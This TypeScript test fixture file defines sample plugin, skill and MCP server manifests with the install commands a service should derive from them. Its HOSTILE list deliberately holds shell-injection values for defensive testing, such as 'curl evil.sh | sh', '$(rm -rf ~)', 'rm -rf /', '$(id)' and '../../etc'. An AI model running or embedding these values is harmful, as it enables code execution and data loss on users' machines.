/**
 * Repositories of each kind a manifest describes, as the fake platform holds them, with the
 * contents and install instructions the refresh must derive from them byte for byte; and hostile
 * manifests that must yield no unsafe instruction. Shapes follow the formats' documentation:
 * Claude Code's plugin.json, marketplace.json and hooks.json, the MCP registry's server.json
 * (2025-10-17 schema), Gemini CLI's gemini-extension.json, Agent Skills' SKILL.md front matter.
 */
import type { RepoSeed } from "./github-repos";
import { withTrees } from "./object-ids";
import { SKILL_LAYOUTS } from "./skill-layouts";

const SCHEMA = "https://static.modelcontextprotocol.io/schemas/2025-10-17/server.schema.json";
const json = (value: unknown) => JSON.stringify(value, null, 2);
const skill = (name: string, description: string) =>
  `---\nname: ${name}\ndescription: ${description}\n---\n\n# ${name}\n`;

/** A server.json for `id` with the given packages and remotes. */
function serverJson(id: string, fields: Record<string, unknown>): string {
  return json({
    $schema: SCHEMA,
    name: `io.github.${id}`,
    description: "An MCP server",
    version: "1.2.3",
    repository: { url: `https://github.com/${id}`, source: "github" },
    ...fields,
  });
}

export interface ManifestFixture {
  seed: RepoSeed;
  /** The parts `include=contents,install,flags,works_with` must answer. */
  expected: {
    contents: unknown;
    install: unknown[];
    works_with: string[];
    fork_of?: string | null;
    latest_release?: { tag: string; date: string } | null;
  };
}

const counts = (c: Partial<Record<string, number>>) => ({
  skills: 0,
  commands: 0,
  agents: 0,
  hooks: 0,
  mcp_servers: 0,
  plugins: 0,
  ...c,
});
const empty = { skills: [], commands: [], agents: [], hooks: [], mcp_servers: [], plugins: [] };
/** One marketplace plugin's own parts, none of them. */
const parts = {
  skills: [],
  commands: [],
  agents: [],
  hooks: [],
  mcp_servers: [],
  counts: { skills: 0, commands: 0, agents: 0, hooks: 0, mcp_servers: 0 },
};

/** One repository per kind. Every one carries the topic the tests' search finds. */
export const FIXTURES: Record<string, ManifestFixture> = {
  marketplace: {
    seed: {
      full_name: "mkt/market",
      stars: 500,
      files: {
        ".claude-plugin/marketplace.json": json({
          name: "acme-tools",
          owner: { name: "Acme" },
          plugins: [
            { name: "lint-helper", source: "./plugins/lint-helper", description: "Lints on save" },
            {
              name: "remote-one",
              source: { source: "github", repo: "other/remote-one" },
              description: "Lives elsewhere",
            },
          ],
        }),
      },
    },
    expected: {
      contents: {
        ...empty,
        plugins: [
          {
            name: "lint-helper",
            source: "./plugins/lint-helper",
            description: "Lints on save",
            install_command: "/plugin install lint-helper@acme-tools",
          },
          {
            name: "remote-one",
            source: "other/remote-one",
            description: "Lives elsewhere",
            install_command: "/plugin install remote-one@acme-tools",
          },
        ],
        marketplace: { name: "acme-tools", refused: null },
        counts: counts({ plugins: 2 }),
      },
      install: [
        {
          harness: "claude-code",
          kind: "marketplace",
          command: "/plugin marketplace add mkt/market",
          env: [],
          from: ".claude-plugin/marketplace.json",
        },
        {
          harness: "claude-code",
          kind: "plugin",
          command: "/plugin install lint-helper@acme-tools",
          env: [],
          from: ".claude-plugin/marketplace.json",
        },
        {
          harness: "claude-code",
          kind: "plugin",
          command: "/plugin install remote-one@acme-tools",
          env: [],
          from: ".claude-plugin/marketplace.json",
        },
      ],
      works_with: ["claude-code"],
    },
  },
  plugin: {
    seed: {
      full_name: "kit/full-plugin",
      stars: 300,
      files: {
        ".claude-plugin/plugin.json": json({ name: "full-plugin", version: "1.0.0", description: "Everything" }),
        "commands/plan.md": "---\ndescription: Plan\n---\nPlan it.",
        "commands/review.md": "Review it.",
        "agents/reviewer.md": "---\ndescription: Reviews\n---\n",
        "skills/tdd/SKILL.md": skill("tdd", "Write the test first"),
        "skills/tdd/reference.md": "More.",
        "hooks/hooks.json": json({
          hooks: {
            PreToolUse: [{ matcher: "Write", hooks: [{ type: "command", command: "./check.sh" }] }],
            Stop: [{ hooks: [{ type: "command", command: "./done.sh" }] }],
          },
        }),
        ".mcp.json": json({ mcpServers: { "kit-db": { command: "node", args: ["db.js"] } } }),
      },
    },
    expected: {
      contents: {
        skills: [{ name: "tdd", description: "Write the test first", path: "skills/tdd" }],
        commands: ["plan", "review"],
        agents: ["reviewer"],
        hooks: ["PreToolUse", "Stop"],
        mcp_servers: ["kit-db"],
        plugins: [],
        counts: counts({ skills: 1, commands: 2, agents: 1, hooks: 2, mcp_servers: 1 }),
      },
      install: [
        {
          harness: "claude-code",
          kind: "skill",
          command: "npx -y skills@1.7.4 add kit/full-plugin --skill tdd --agent claude-code",
          env: [],
          from: "skills/tdd/SKILL.md",
        },
      ],
      works_with: ["claude-code", "agent-skills"],
    },
  },
  npm: {
    seed: {
      full_name: "mcpco/npm-server",
      stars: 2000,
      release: { tag: "v1.2.3", date: "2026-10-01T08:00:00Z" },
      files: {
        "server.json": serverJson("mcpco/npm-server", {
          packages: [
            {
              registryType: "npm",
              registryBaseUrl: "https://registry.npmjs.org",
              identifier: "@mcpco/npm-server",
              version: "1.2.3",
              transport: { type: "stdio" },
              environmentVariables: [
                { name: "MCPCO_TOKEN", description: "API token", isRequired: true, isSecret: true },
                { name: "MCPCO_REGION", description: "Region", isRequired: false, default: "eu" },
              ],
            },
          ],
        }),
      },
    },
    expected: {
      contents: { ...empty, mcp_servers: ["npm-server"], counts: counts({ mcp_servers: 1 }) },
      install: [
        {
          harness: "claude-code",
          kind: "npm",
          command: "claude mcp add npm-server --env MCPCO_TOKEN=YOUR_MCPCO_TOKEN -- npx -y @mcpco/npm-server@1.2.3",
          env: [
            { name: "MCPCO_TOKEN", secret: true, required: true },
            { name: "MCPCO_REGION", secret: false, required: false },
          ],
          from: "server.json",
        },
        {
          harness: "mcp",
          kind: "npm",
          config: {
            mcpServers: {
              "npm-server": {
                command: "npx",
                args: ["-y", "@mcpco/npm-server@1.2.3"],
                env: { MCPCO_TOKEN: "<MCPCO_TOKEN>" },
              },
            },
          },
          env: [
            { name: "MCPCO_TOKEN", secret: true, required: true },
            { name: "MCPCO_REGION", secret: false, required: false },
          ],
          from: "server.json",
        },
      ],
      works_with: ["mcp"],
      latest_release: { tag: "v1.2.3", date: "2026-10-01T08:00:00Z" },
    },
  },
  pypi: {
    seed: {
      full_name: "pyco/py-server",
      files: {
        "server.json": serverJson("pyco/py-server", {
          packages: [
            {
              registryType: "pypi",
              identifier: "py-server",
              version: "0.4.1",
              runtimeHint: "uvx",
              transport: { type: "stdio" },
            },
          ],
        }),
      },
    },
    expected: {
      contents: { ...empty, mcp_servers: ["py-server"], counts: counts({ mcp_servers: 1 }) },
      install: [
        {
          harness: "claude-code",
          kind: "pypi",
          command: "claude mcp add py-server -- uvx py-server==0.4.1",
          env: [],
          from: "server.json",
        },
        {
          harness: "mcp",
          kind: "pypi",
          config: { mcpServers: { "py-server": { command: "uvx", args: ["py-server==0.4.1"] } } },
          env: [],
          from: "server.json",
        },
      ],
      works_with: ["mcp"],
    },
  },
  oci: {
    seed: {
      full_name: "ocico/oci-server",
      files: {
        "server.json": serverJson("ocico/oci-server", {
          packages: [
            {
              registryType: "oci",
              identifier: "ghcr.io/ocico/oci-server:2.0.1",
              transport: { type: "stdio" },
              environmentVariables: [{ name: "OCI_KEY", isRequired: true, isSecret: true }],
            },
          ],
        }),
      },
    },
    expected: {
      contents: { ...empty, mcp_servers: ["oci-server"], counts: counts({ mcp_servers: 1 }) },
      install: [
        {
          harness: "claude-code",
          kind: "oci",
          command:
            "claude mcp add oci-server --env OCI_KEY=YOUR_OCI_KEY -- docker run -i --rm -e OCI_KEY ghcr.io/ocico/oci-server:2.0.1",
          env: [{ name: "OCI_KEY", secret: true, required: true }],
          from: "server.json",
        },
        {
          harness: "mcp",
          kind: "oci",
          config: {
            mcpServers: {
              "oci-server": {
                command: "docker",
                args: ["run", "-i", "--rm", "-e", "OCI_KEY", "ghcr.io/ocico/oci-server:2.0.1"],
                env: { OCI_KEY: "<OCI_KEY>" },
              },
            },
          },
          env: [{ name: "OCI_KEY", secret: true, required: true }],
          from: "server.json",
        },
      ],
      works_with: ["mcp"],
    },
  },
  remote: {
    seed: {
      full_name: "remco/remote-server",
      files: {
        "server.json": serverJson("remco/remote-server", {
          remotes: [{ type: "streamable-http", url: "https://mcp.remco.dev/mcp" }],
        }),
      },
    },
    expected: {
      contents: { ...empty, mcp_servers: ["remote-server"], counts: counts({ mcp_servers: 1 }) },
      install: [
        {
          harness: "claude-code",
          kind: "remote",
          command: "claude mcp add --transport http remote-server https://mcp.remco.dev/mcp",
          env: [],
          from: "server.json",
        },
        {
          harness: "mcp",
          kind: "remote",
          config: { mcpServers: { "remote-server": { type: "http", url: "https://mcp.remco.dev/mcp" } } },
          env: [],
          from: "server.json",
        },
      ],
      works_with: ["mcp"],
    },
  },
  skill: {
    seed: { full_name: "skillco/one-skill", files: { "SKILL.md": skill("pdf-tools", "Reads and fills PDF forms") } },
    expected: {
      contents: {
        ...empty,
        skills: [{ name: "pdf-tools", description: "Reads and fills PDF forms" }],
        counts: counts({ skills: 1 }),
      },
      install: [
        {
          harness: "claude-code",
          kind: "skill",
          command: "git clone https://github.com/skillco/one-skill.git .claude/skills/pdf-tools",
          env: [],
          from: "SKILL.md",
        },
      ],
      works_with: ["agent-skills"],
    },
  },
  skillPack: {
    seed: {
      full_name: "skillco/skill-pack",
      files: {
        ".claude-plugin/marketplace.json": json({
          name: "skill-pack",
          owner: { name: "Skill Co" },
          plugins: [{ name: "document-skills", source: "./", description: "Document skills" }],
        }),
        "skills/alpha/SKILL.md": skill("alpha", "First skill"),
        "skills/beta/SKILL.md": skill("beta", "Second skill"),
      },
    },
    expected: {
      contents: {
        ...empty,
        skills: [
          { name: "alpha", description: "First skill", path: "skills/alpha" },
          { name: "beta", description: "Second skill", path: "skills/beta" },
        ],
        plugins: [
          {
            name: "document-skills",
            source: "./",
            description: "Document skills",
            contents: { ...parts, skills: ["alpha", "beta"], counts: { ...parts.counts, skills: 2 } },
            // The plugin at the root takes the root plugin's figure: "skill-pack:alpha First skill" and the other, 56 characters.
            context: { always_on: 14, mcp_tools: 0, complete: true, counts: { skills: 2, commands: 0, agents: 0 } },
            install_command: "/plugin install document-skills@skill-pack",
          },
        ],
        marketplace: { name: "skill-pack", refused: null },
        counts: counts({ skills: 2, plugins: 1 }),
      },
      install: [
        {
          harness: "claude-code",
          kind: "marketplace",
          command: "/plugin marketplace add skillco/skill-pack",
          env: [],
          from: ".claude-plugin/marketplace.json",
        },
        {
          harness: "claude-code",
          kind: "plugin",
          command: "/plugin install document-skills@skill-pack",
          env: [],
          from: ".claude-plugin/marketplace.json",
        },
        {
          harness: "claude-code",
          kind: "skill",
          command: "npx -y skills@1.7.4 add skillco/skill-pack --skill alpha --agent claude-code",
          env: [],
          from: "skills/alpha/SKILL.md",
        },
        {
          harness: "claude-code",
          kind: "skill",
          command: "npx -y skills@1.7.4 add skillco/skill-pack --skill beta --agent claude-code",
          env: [],
          from: "skills/beta/SKILL.md",
        },
      ],
      works_with: ["claude-code", "agent-skills"],
    },
  },
  folderPack: {
    seed: {
      full_name: "skillco/folder-pack",
      files: {
        "skills/docx/SKILL.md": skill("docx", "Edits Word documents"),
        "skills/pdf/SKILL.md": skill("pdf", "Reads and fills PDF forms"),
        "skills/README.md": "Two skills.",
      },
    },
    expected: {
      contents: {
        ...empty,
        skills: [
          { name: "docx", description: "Edits Word documents", path: "skills/docx" },
          { name: "pdf", description: "Reads and fills PDF forms", path: "skills/pdf" },
        ],
        counts: counts({ skills: 2 }),
      },
      install: [
        {
          harness: "claude-code",
          kind: "skill",
          command: "npx -y skills@1.7.4 add skillco/folder-pack --skill docx --agent claude-code",
          env: [],
          from: "skills/docx/SKILL.md",
        },
        {
          harness: "claude-code",
          kind: "skill",
          command: "npx -y skills@1.7.4 add skillco/folder-pack --skill pdf --agent claude-code",
          env: [],
          from: "skills/pdf/SKILL.md",
        },
      ],
      works_with: ["agent-skills"],
    },
  },
  gemini: {
    seed: {
      full_name: "gemco/gem-ext",
      files: {
        "gemini-extension.json": json({
          name: "gem-ext",
          version: "1.0.0",
          mcpServers: { gem: { command: "node", args: ["server.js"] } },
          contextFileName: "GEMINI.md",
        }),
      },
    },
    expected: {
      contents: { ...empty, mcp_servers: ["gem"], counts: counts({ mcp_servers: 1 }) },
      install: [
        {
          harness: "gemini-cli",
          kind: "extension",
          command: "gemini extensions install https://github.com/gemco/gem-ext",
          env: [],
          from: "gemini-extension.json",
        },
      ],
      works_with: ["gemini-cli"],
    },
  },
  fork: {
    seed: {
      full_name: "forker/npm-server",
      stars: 1,
      parent: "mcpco/npm-server",
      files: {
        // A fork carries its parent's server.json, which names the parent: no instruction of its own.
        "server.json": serverJson("mcpco/npm-server", {
          packages: [
            { registryType: "npm", identifier: "@mcpco/npm-server", version: "1.2.3", transport: { type: "stdio" } },
          ],
        }),
      },
    },
    expected: {
      contents: { ...empty, mcp_servers: ["npm-server"], counts: counts({ mcp_servers: 1 }) },
      install: [],
      works_with: ["mcp"],
      fork_of: "mcpco/npm-server",
    },
  },
  ...SKILL_LAYOUTS,
};

// Each skill listed with its folder gets that folder's tree id, as the fake platform computes it.
for (const fixture of Object.values(FIXTURES)) withTrees(fixture);

/** A secret's default value, which must appear nowhere the service writes. */
export const SECRET_DEFAULT = "sk-live-0123456789abcdef";

/** Manifests a hostile or careless author writes: each must yield no unsafe instruction and be counted. */
export const HOSTILE: RepoSeed[] = [
  {
    full_name: "bad/huge",
    files: {
      "server.json": serverJson("bad/huge", {
        description: "x".repeat(5 * 1024 * 1024),
        packages: [{ registryType: "npm", identifier: "huge", version: "1.0.0", transport: { type: "stdio" } }],
      }),
    },
  },
  {
    full_name: "bad/invalid",
    files: { ".claude-plugin/plugin.json": '{"name": "invalid",', "hooks/hooks.json": "[1,2" },
  },
  {
    full_name: "bad/many",
    files: {
      ".claude-plugin/marketplace.json": JSON.stringify({
        name: "many",
        owner: { name: "x" },
        plugins: Array.from({ length: 10_000 }, (_, i) => ({ name: `p${i}`, source: `./p${i}` })),
      }),
    },
  },
  {
    full_name: "bad/meta",
    files: {
      ".claude-plugin/marketplace.json": json({
        name: "m; curl evil.sh | sh",
        owner: { name: "x" },
        plugins: [
          { name: "$(rm -rf ~)", source: "./a" },
          { name: "ok\n/plugin install evil", source: "./b" },
          { name: "fine", source: "../../etc" },
        ],
      }),
      "server.json": serverJson("bad/meta", {
        name: "io.github.bad/meta`id`",
        packages: [{ registryType: "npm", identifier: "pkg;reboot", version: "1.0.0" }],
      }),
      "SKILL.md": "---\nname: x && curl evil\ndescription: bad\n---\n",
      "gemini-extension.json": json({ name: "gem\nrm -rf /" }),
    },
  },
  {
    full_name: "bad/meta-server",
    files: {
      "server.json": serverJson("bad/meta-server", {
        packages: [
          {
            registryType: "npm",
            identifier: "@ok/pkg",
            version: "1.0.0",
            transport: { type: "stdio" },
            environmentVariables: [{ name: "A;B", isRequired: true }],
          },
          { registryType: "pypi", identifier: "pkg", version: "1.0.0\nrm", transport: { type: "stdio" } },
        ],
      }),
    },
  },
  {
    full_name: "bad/latest",
    files: {
      "server.json": serverJson("bad/latest", {
        packages: [
          { registryType: "npm", identifier: "latest-pkg", version: "latest", transport: { type: "stdio" } },
          { registryType: "npm", identifier: "range-pkg", version: "^1.2.0", transport: { type: "stdio" } },
          { registryType: "pypi", identifier: "py-latest", version: ">=1.0", transport: { type: "stdio" } },
          { registryType: "oci", identifier: "docker.io/bad/image:latest", transport: { type: "stdio" } },
          { registryType: "oci", identifier: "docker.io/bad/image", transport: { type: "stdio" } },
        ],
      }),
    },
  },
  {
    full_name: "bad/http",
    files: {
      "server.json": serverJson("bad/http", {
        remotes: [
          { type: "streamable-http", url: "http://mcp.bad.dev/mcp" },
          { type: "sse", url: "https://mcp.bad.dev/sse?token=1&x=$(id)" },
          { type: "streamable-http", url: "https://{tenant}.bad.dev/mcp" },
        ],
      }),
    },
  },
  {
    full_name: "bad/secret",
    files: {
      "server.json": serverJson("bad/secret", {
        packages: [
          {
            registryType: "npm",
            identifier: "secret-pkg",
            version: "2.0.0",
            transport: { type: "stdio" },
            environmentVariables: [
              { name: "API_KEY", isRequired: true, isSecret: true, default: SECRET_DEFAULT },
              { name: "OTHER", isRequired: true, isSecret: true, value: SECRET_DEFAULT },
            ],
          },
        ],
      }),
    },
  },
  {
    full_name: "bad/skill-names",
    files: {
      "skills/evil/SKILL.md": "---\nname: evil --agent '*' -g\ndescription: bad\n---\n",
      "skills/Upper/SKILL.md": "---\nname: Upper$(id)\ndescription: bad\n---\n",
      "skills/fine/SKILL.md": skill("fine", "Fine"),
    },
  },
  { full_name: "cloner/superpowers-x7k2q", stars: 5, files: { "SKILL.md": skill("superpowers", "Copied") } },
  { full_name: "obra/superpowers", stars: 90_000, files: { "SKILL.md": skill("superpowers", "The original") } },
  // Another owner's marketplace under mkt/market's marketplace name: `/plugin install x@acme-tools` is the same line.
  {
    full_name: "squat/tool-shelf",
    stars: 3,
    files: {
      ".claude-plugin/marketplace.json": json({
        name: "Acme-Tools",
        owner: { name: "Squat" },
        plugins: [{ name: "lint-helper", source: "./plugins/lint-helper", description: "Lints on save" }],
      }),
    },
  },
];
